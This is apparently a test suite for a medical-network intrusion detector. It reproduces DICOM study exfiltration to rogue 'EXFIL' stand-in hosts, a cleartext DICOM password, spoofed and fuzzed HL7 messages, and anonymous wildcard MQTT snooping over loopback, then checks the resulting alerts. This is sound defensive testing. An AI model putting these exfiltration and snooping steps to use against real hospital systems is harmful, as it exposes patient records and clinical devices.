"""Medical-protocol rules on real stacks over loopback, captured by tcpdump and read by the real
pipeline: pynetdicom storage (learning, then exfiltration, an unknown AE, user identity in
clear), HL7 over MLLP built with hl7apy (new sender, new message type, NAK burst, impossible
vitals), paho-mqtt against Mosquitto (anonymous connect, wildcard subscription)."""

from __future__ import annotations

import logging
import re
import socket
import threading
import time
from pathlib import Path

import pytest
from hl7_build import FS, VT, mllp
from hl7apy.core import Group, Message
from loopcap import scan
from netcap import tcpdump

from medsentry.detect.engine import DetectionEngine
from medsentry.detect.registry import default_detectors
from medsentry.events import encode_json

logging.getLogger("pynetdicom").setLevel(logging.ERROR)


def _engine() -> DetectionEngine:
    return DetectionEngine(default_detectors(models=False))


def _run(engine: DetectionEngine, pcap: Path, learning: bool):
    engine.ctx.forced_learning = learning
    events = sorted(scan(pcap), key=lambda e: e.ts_ns)
    return engine.process(events), events


# --- DICOM ------------------------------------------------------------------------------------


def _storage_scp(ae_title: str, host: str, port: int):
    from pynetdicom import AE, AllStoragePresentationContexts, evt

    ae = AE(ae_title=ae_title)
    ae.supported_contexts = AllStoragePresentationContexts
    handlers = [
        (evt.EVT_C_STORE, lambda e: 0x0000),
        (evt.EVT_USER_ID, lambda e: (True, None)),
    ]
    return ae.start_server((host, port), block=False, evt_handlers=handlers)


def _store(calling: str, src: str, called: str, host: str, port: int, user=None) -> None:
    from pydicom import dcmread
    from pydicom.data import get_testdata_file
    from pynetdicom import AE
    from pynetdicom.pdu_primitives import UserIdentityNegotiation
    from pynetdicom.sop_class import CTImageStorage

    ds = dcmread(get_testdata_file("CT_small.dcm"))
    ae = AE(ae_title=calling)
    ae.add_requested_context(CTImageStorage, ds.file_meta.TransferSyntaxUID)
    ext = []
    if user is not None:
        ui = UserIdentityNegotiation()
        ui.user_identity_type = 2
        ui.primary_field, ui.secondary_field = user
        ext.append(ui)
    assoc = ae.associate(host, port, ae_title=called, bind_address=(src, 0), ext_neg=ext or None)
    assert assoc.is_established
    status = assoc.send_c_store(ds)
    assert status.Status == 0x0000
    assoc.release()


def test_dicom_exfiltration_unknown_ae_and_cleartext_identity(tmp_path: Path) -> None:
    pytest.importorskip("pynetdicom")
    pacs = _storage_scp("PACS", "127.0.7.10", 11112)
    rogue = _storage_scp("EXFIL", "127.0.7.99", 11113)
    try:
        learn = tmp_path / "learn.pcap"
        with tcpdump(learn, "net 127.0.7.0/24 and tcp"):
            for _ in range(2):
                _store("CT1", "127.0.7.11", "PACS", "127.0.7.10", 11112)
        attack = tmp_path / "attack.pcap"
        with tcpdump(attack, "net 127.0.7.0/24 and tcp"):
            _store("CT1", "127.0.7.11", "PACS", "127.0.7.10", 11112)  # normal: no alert
            _store("CT1", "127.0.7.11", "EXFIL", "127.0.7.99", 11113)  # studies leave
            _store(
                "HACKER",
                "127.0.7.66",
                "PACS",
                "127.0.7.10",
                11112,
                user=(b"radiologist", b"Winter2026!"),
            )
    finally:
        pacs.shutdown()
        rogue.shutdown()
    engine = _engine()
    learned, _ = _run(engine, learn, learning=True)
    assert [a.rule_id for a in learned] == []
    alerts, _events = _run(engine, attack, learning=False)
    by = {}
    for a in alerts:
        by.setdefault(a.rule_id, []).append(a)
    (exf,) = by["dicom.transfer_to_new_peer"]
    assert exf.device_id == "ip:127.0.7.11" and exf.technique_id == "T0882"
    assert exf.detail["destination"] == "EXFIL@127.0.7.99" and exf.detail["command"] == "C-STORE-RQ"
    assert exf.evidence[0].flow_id
    unknown = {(a.device_id, a.detail["calling_ae"]) for a in by["dicom.unknown_calling_ae"]}
    # HACKER at the PACS, and CT1 at the rogue SCP (never seen there either)
    assert unknown == {("ip:127.0.7.10", "HACKER"), ("ip:127.0.7.99", "CT1")}
    (unk,) = [a for a in by["dicom.unknown_calling_ae"] if a.device_id == "ip:127.0.7.10"]
    assert unk.detail["accepted"] is True
    (uid,) = by["dicom.user_identity_cleartext"]
    assert uid.detail["passcode_sent"] is True and uid.technique_id == "T0859"
    blob = "".join(encode_json(a).decode() for a in alerts)  # never the password
    assert "Winter2026" not in blob and "radiologist" not in blob
    # baselines saw the departures too: a new AE pair for CT1
    assert any(a.rule_id == "baseline.dicom_ae" and a.device_id == "ip:127.0.7.11" for a in alerts)


# --- HL7 ----------------------------------------------------------------------------------------


def _oru(sender: str, facility: str, control_id: str, hr: str, mtype: str = "ORU^R01") -> str:
    if mtype.startswith("ORM"):
        m = Message("ORM_O01", version="2.5")
        m.msh.msh_9 = "ORM^O01^ORM_O01"
    else:
        m = Message("ORU_R01", version="2.5")
        m.msh.msh_9 = "ORU^R01^ORU_R01"
    m.msh.msh_3 = sender
    m.msh.msh_4 = facility
    m.msh.msh_5 = "EMR"
    m.msh.msh_10 = control_id
    m.msh.msh_11 = "P"
    if mtype.startswith("ORU"):
        pr = Group("ORU_R01_PATIENT_RESULT", version="2.5")
        m.add(pr)
        oo = Group("ORU_R01_ORDER_OBSERVATION", version="2.5")
        pr.add(oo)
        oo.obr.obr_4 = "VITALS^Vital signs^L"
        g = Group("ORU_R01_OBSERVATION", version="2.5")
        g.obx.obx_2 = "NM"
        g.obx.obx_3 = "147842^MDC_ECG_HEART_RATE^MDC"
        g.obx.obx_5 = hr
        g.obx.obx_6 = "264864^MDC_DIM_BEAT_PER_MIN^MDC"
        oo.add(g)
    return m.to_er7()


class _Receiver(threading.Thread):
    """An interface engine on 127.0.13.20:2575: answers AA, or AE to control ids starting BAD."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.13.20", 2575))
        self.sock.settimeout(0.2)
        self.stop = False

    def run(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        from hl7apy.parser import parse_message

        with conn:
            buf = b""
            while data := conn.recv(65536):
                buf += data
                while FS + b"\r" in buf:
                    frame, buf = buf.split(FS + b"\r", 1)
                    msg = parse_message(frame[frame.index(VT) + 1 :].decode(), find_groups=False)
                    cid = msg.msh.msh_10.value
                    reply = Message("ACK", version="2.5")
                    reply.msh.msh_3 = "EMR"
                    reply.msh.msh_9 = "ACK^R01^ACK"
                    reply.msh.msh_10 = "ACK-" + cid
                    reply.msh.msh_11 = "P"
                    reply.msa.msa_1 = "AE" if cid.startswith("BAD") else "AA"
                    reply.msa.msa_2 = cid
                    conn.sendall(mllp(reply.to_er7()))


def _send(src: str, messages: list[str]) -> None:
    with socket.create_connection(("127.0.13.20", 2575), source_address=(src, 0)) as c:
        for m in messages:
            c.sendall(mllp(m))
            buf = b""
            while FS + b"\r" not in buf:
                buf += c.recv(65536)


def test_hl7_injection_naks_and_impossible_vitals(tmp_path: Path) -> None:
    rx = _Receiver()
    rx.start()
    try:
        learn = tmp_path / "learn.pcap"
        with tcpdump(learn, "host 127.0.13.20 and tcp port 2575"):
            _send("127.0.13.21", [_oru("MONITOR_GW", "ICU", f"V{i}", "72") for i in range(3)])
        attack = tmp_path / "attack.pcap"
        with tcpdump(attack, "host 127.0.13.20 and tcp port 2575"):
            _send("127.0.13.21", [_oru("MONITOR_GW", "ICU", "V9", "75")])  # normal
            _send("127.0.13.21", [_oru("MONITOR_GW", "ICU", "O1", "", mtype="ORM^O01")])
            _send("127.0.13.22", [_oru("LAB_SPOOF", "ICU", "X1", "70")])  # a new sender
            _send("127.0.13.21", [_oru("MONITOR_GW", "ICU", "V10", "612")])  # impossible HR
            _send("127.0.13.23", [_oru("FUZZER", "X", f"BAD{i}", "70") for i in range(6)])
        time.sleep(0.2)
    finally:
        rx.stop = True
    engine = _engine()
    learned, _ = _run(engine, learn, learning=True)
    assert learned == []
    alerts, _events = _run(engine, attack, learning=False)
    got = {(a.rule_id, a.device_id) for a in alerts if a.rule_id.startswith("hl7.")}
    assert got == {
        ("hl7.new_message_type", "ip:127.0.13.21"),
        ("hl7.new_sender", "ip:127.0.13.22"),
        ("hl7.new_sender", "ip:127.0.13.23"),
        ("hl7.impossible_vital", "ip:127.0.13.21"),
        ("hl7.nak_burst", "ip:127.0.13.23"),
    }
    (vital,) = [a for a in alerts if a.rule_id == "hl7.impossible_vital"]
    assert vital.detail["codes"] == "147842" and vital.technique_id == "T0832"
    (nak,) = [a for a in alerts if a.rule_id == "hl7.nak_burst"]
    assert nak.detail["naks_in_window"] == 6
    (mt,) = [a for a in alerts if a.rule_id == "hl7.new_message_type"]
    assert mt.detail["message_type"] == "ORM^O01"
    # the value is not kept (as a number of its own: timestamps and ids may contain the digits)
    assert not re.search(
        r"(?<![0-9a-f])612(?![0-9a-f])", "".join(encode_json(a).decode() for a in alerts)
    )


# --- MQTT ---------------------------------------------------------------------------------------


def test_mqtt_anonymous_connect_and_wildcard_subscription(tmp_path: Path) -> None:
    paho = pytest.importorskip("paho.mqtt.client")
    try:
        socket.create_connection(("127.0.0.1", 1883), timeout=1).close()
    except OSError:
        pytest.skip("no MQTT broker on 127.0.0.1:1883 (Mosquitto)")
    pcap = tmp_path / "mqtt.pcap"
    with tcpdump(pcap, "tcp port 1883 and host 127.0.14.30"):
        c = paho.Client(paho.CallbackAPIVersion.VERSION2, client_id="snoop")
        c.connect("127.0.0.1", 1883, bind_address="127.0.14.30")
        c.loop_start()
        c.subscribe([("#", 0)])
        time.sleep(0.3)
        c.disconnect()
        c.loop_stop()
    alerts, _ = _run(_engine(), pcap, learning=False)
    by = {a.rule_id: a for a in alerts}
    un = by["mqtt.unauthenticated"]
    assert un.device_id == "ip:127.0.0.1" and un.severity == "high"  # accepted by the broker
    assert un.detail["accepted"] is True and un.count == 2
    wc = by["mqtt.wildcard_subscription"]
    assert wc.device_id == "ip:127.0.14.30" and wc.detail["filters"] == "#"
    assert wc.severity == "high" and wc.technique_id == "T0801"


def test_dicom_c_move_to_a_new_destination(tmp_path: Path) -> None:
    """A C-MOVE naming a move destination never seen: the PACS pushes studies to it."""
    pytest.importorskip("pynetdicom")
    from pydicom import dcmread
    from pydicom.data import get_testdata_file
    from pydicom.dataset import Dataset
    from pynetdicom import AE, StoragePresentationContexts, evt
    from pynetdicom.sop_class import StudyRootQueryRetrieveInformationModelMove

    ct = dcmread(get_testdata_file("CT_small.dcm"))
    where = {"VIEWER": ("127.0.12.20", 11120), "EXFIL2": ("127.0.12.99", 11121)}

    def on_move(event):  # PS3.4 C.4.2.2: the SCP resolves the destination, then sub-operations
        dest = (
            event.move_destination.decode().strip()
            if isinstance(event.move_destination, bytes)
            else event.move_destination.strip()
        )
        yield where[dest]
        yield 1
        yield 0xFF00, ct

    pacs = AE(ae_title="PACS")
    pacs.add_supported_context(StudyRootQueryRetrieveInformationModelMove)
    pacs.requested_contexts = StoragePresentationContexts
    scp = pacs.start_server(
        ("127.0.12.10", 11119), block=False, evt_handlers=[(evt.EVT_C_MOVE, on_move)]
    )
    sinks = [_storage_scp(ae, *addr) for ae, addr in where.items()]

    def move(dest: str) -> None:
        ae = AE(ae_title="WS1")
        ae.add_requested_context(StudyRootQueryRetrieveInformationModelMove)
        assoc = ae.associate("127.0.12.10", 11119, ae_title="PACS", bind_address=("127.0.12.11", 0))
        assert assoc.is_established
        q = Dataset()
        q.QueryRetrieveLevel = "STUDY"
        q.StudyInstanceUID = ct.StudyInstanceUID
        statuses = [
            s.Status
            for s, _ in assoc.send_c_move(q, dest, StudyRootQueryRetrieveInformationModelMove)
            if s
        ]
        assoc.release()
        assert statuses[-1] == 0x0000

    try:
        learn = tmp_path / "learn.pcap"
        with tcpdump(learn, "net 127.0.12.0/24 and tcp"):
            move("VIEWER")
        attack = tmp_path / "attack.pcap"
        with tcpdump(attack, "net 127.0.12.0/24 and tcp"):
            move("VIEWER")
            move("EXFIL2")
    finally:
        scp.shutdown()
        for s in sinks:
            s.shutdown()
    engine = _engine()
    assert _run(engine, learn, learning=True)[0] == []
    alerts, _ = _run(engine, attack, learning=False)
    moves = {
        a.detail["destination"]: a for a in alerts if a.rule_id == "dicom.transfer_to_new_peer"
    }
    assert set(moves) == {"EXFIL2@move", "EXFIL2@127.0.12.99"}
    assert moves["EXFIL2@move"].device_id == "ip:127.0.12.10"  # the PACS sends the studies
    assert moves["EXFIL2@move"].detail["command"] == "C-MOVE-RQ"
    assert moves["EXFIL2@127.0.12.99"].detail["command"] == "C-STORE-RQ"
